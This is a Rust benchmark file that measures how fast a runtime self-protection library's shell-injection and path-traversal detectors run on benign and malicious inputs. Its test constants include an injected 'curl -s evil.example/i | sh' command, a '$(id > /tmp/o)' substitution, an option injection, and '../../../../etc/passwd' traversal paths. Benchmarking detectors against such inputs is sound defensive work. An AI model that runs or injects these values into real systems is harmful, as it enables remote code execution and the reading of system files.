//! Cost of the shell and path detectors on typical sink texts: a benign
//! input present in the text (the detector's full work on a miss) and an
//! attack.
//!
//! `cargo bench -p rasp-core --bench shell_path`.

use std::hint::black_box;

use criterion::{Criterion, criterion_group, criterion_main};
use memchr::memmem::Finder;
use rasp_detect::{path, shell};

/// A thumbnail job built from an uploaded file name, quoted by the
/// application.
const CONVERT: &str =
    "convert '/srv/uploads/q3 report.png' -thumbnail 64x64 -strip /var/cache/thumbs/q3.webp";
const CONVERT_INPUT: &str = "q3 report.png";
/// A lookup with the input as a bare word.
const DIG: &str = "dig +short +time=2 shop.example.com AAAA";
const DIG_INPUT: &str = "shop.example.com";
/// The same lookup with a command appended.
const DIG_ATTACK: &str = "dig +short +time=2 x; curl -s evil.example/i | sh AAAA";
const DIG_ATTACK_INPUT: &str = "x; curl -s evil.example/i | sh";
/// A command substitution inside the application's double quotes.
const LOGGER_ATTACK: &str = "logger -t shop \"order $(id > /tmp/o) placed\"";
const LOGGER_ATTACK_INPUT: &str = "$(id > /tmp/o)";

/// A download path under a media root.
const MEDIA: &str = "/var/lib/shop/media/2024/products/v1..v2/running-shoes.webp";
const MEDIA_INPUT: &str = "2024/products/v1..v2/running-shoes.webp";
const TRAVERSAL: &str = "/var/lib/shop/media/../../../../etc/passwd";
const TRAVERSAL_INPUT: &str = "../../../../etc/passwd";
const ABSOLUTE: &str = "/etc/passwd";

fn shell_detector(c: &mut Criterion) {
    let mut group = c.benchmark_group("shell");
    for (name, text, input) in [
        ("benign_quoted", CONVERT, CONVERT_INPUT),
        ("benign_word", DIG, DIG_INPUT),
        ("attack_operator", DIG_ATTACK, DIG_ATTACK_INPUT),
        ("attack_substitution", LOGGER_ATTACK, LOGGER_ATTACK_INPUT),
    ] {
        let finder = Finder::new(input.as_bytes());
        group.bench_function(name, |b| {
            b.iter(|| shell::detect(black_box(text.as_bytes()), black_box(&finder)));
        });
    }
    let option = Finder::new(b"--output=/tmp/x");
    group.bench_function("attack_option", |b| {
        b.iter(|| shell::detect_option(black_box(b"--output=/tmp/x"), black_box(&option)));
    });
    group.finish();
}

fn path_detector(c: &mut Criterion) {
    let mut group = c.benchmark_group("path");
    for (name, text, input) in [
        ("benign_nested", MEDIA, MEDIA_INPUT),
        ("attack_traversal", TRAVERSAL, TRAVERSAL_INPUT),
        ("attack_absolute", ABSOLUTE, ABSOLUTE),
    ] {
        let finder = Finder::new(input.as_bytes());
        group.bench_function(name, |b| {
            b.iter(|| path::detect(black_box(text.as_bytes()), black_box(&finder)));
        });
    }
    group.finish();
}

criterion_group!(benches, shell_detector, path_detector);
criterion_main!(benches);
